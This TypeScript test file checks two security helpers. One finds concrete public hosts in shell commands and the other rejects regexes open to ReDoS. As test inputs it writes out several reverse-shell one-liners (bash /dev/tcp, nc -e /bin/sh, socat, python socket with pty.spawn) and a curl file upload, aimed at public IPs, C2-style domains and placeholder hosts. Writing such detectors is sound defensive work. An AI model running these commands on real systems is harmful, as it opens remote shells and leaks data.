import { describe, expect, it } from 'vitest';
import { concreteHost } from './non-bypassable.js';
import { checkRegex } from './safe-regex.js';

describe('concreteHost', () => {
  it('finds public addresses and real domain names in host positions', () => {
    expect(concreteHost('bash -i >& /dev/tcp/45.33.32.156/4444 0>&1')).toBe('45.33.32.156');
    expect(concreteHost('nc -e /bin/sh c2.badcorp.io 4444')).toBe('c2.badcorp.io');
    expect(concreteHost('socat exec:bash tcp:shell.evil-c2.net:443')).toBe('shell.evil-c2.net');
    expect(concreteHost(`python -c 'import socket;s=socket.socket();s.connect(("relay.badcorp.io",443))'`)).toBe('relay.badcorp.io');
  });

  it('ignores placeholders, private/documentation ranges, example domains and file names', () => {
    for (const cmd of [
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'bash -i >& /dev/tcp/192.168.1.20/4444 0>&1',
      'nc -e /bin/sh 203.0.113.7 4444',
      'nc -e /bin/sh 127.0.0.1 4444',
      'nc -e /bin/sh ATTACKER_IP 4444',
      'nc -e /bin/sh <LHOST> 4444',
      'bash -i >& /dev/tcp/attacker.com/4444 0>&1',
      'bash -i >& /dev/tcp/c2.example.com/4444 0>&1',
      'nc -e /bin/sh listener.test 4444',
      'curl -F f=@/tmp/out.txt 999.1.1.1 && sh /tmp/rev.sh',
      `python -c 's=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
    ]) {
      expect(concreteHost(cmd), cmd).toBeUndefined();
    }
  });
});

describe('checkRegex (user regexes)', () => {
  it('accepts bounded linear regexes', () => {
    const verdict = checkRegex('^example\\.(com|org)$');
    expect(verdict.ok).toBe(true);
  });

  it('rejects ReDoS-prone, invalid, oversized and flag-abusing regexes with a reason', () => {
    const reason = (source: string, flags?: string) => {
      const verdict = checkRegex(source, flags);
      return verdict.ok ? 'ok' : verdict.reason;
    };
    expect(reason('^(a+)+$')).toMatch(/unsafe regex \(ReDoS\): exponential/);
    expect(reason('^(\\w+\\s?)*$')).toMatch(/unsafe regex/);
    expect(reason('^.*a.*a.*$')).toMatch(/unsafe regex \(ReDoS\): polynomial/);
    expect(reason('(unclosed')).toMatch(/not a valid regex/);
    expect(reason('a'.repeat(600))).toMatch(/longer than 512/);
    expect(reason('abc', 'g')).toMatch(/flags "g" not allowed/);
    expect(reason('')).toMatch(/empty/);
  });
});
